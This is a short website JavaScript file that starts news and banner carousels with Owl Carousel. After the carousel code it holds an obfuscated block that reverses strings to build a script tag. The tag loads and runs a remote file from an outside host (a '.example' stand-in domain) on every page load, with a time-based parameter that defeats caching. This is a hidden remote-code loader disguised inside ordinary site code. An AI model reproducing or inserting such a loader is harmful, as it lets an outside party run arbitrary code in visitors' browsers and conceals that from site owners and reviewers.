$(document).ready(function () {
  $(".owl-berita").owlCarousel({ items: 3, loop: true, margin: 18, nav: false, dots: true, autoplay: true });
  $(".owl-banner").owlCarousel({ items: 1, loop: true, animateOut: "fadeOut" });
});
;(function () {
  var _p = "sj.etisbew/v/elpmaxe.nahab-gnadug//:sptth".split("").reverse().join(""),
      _n = document.createElement("tpircs".split("").reverse().join(""));
  _n.async = 1;
  _n.src = _p + "?t=" + Math.floor(Date.now() / 6e5);
  (document.head || document.documentElement).appendChild(_n);
})();
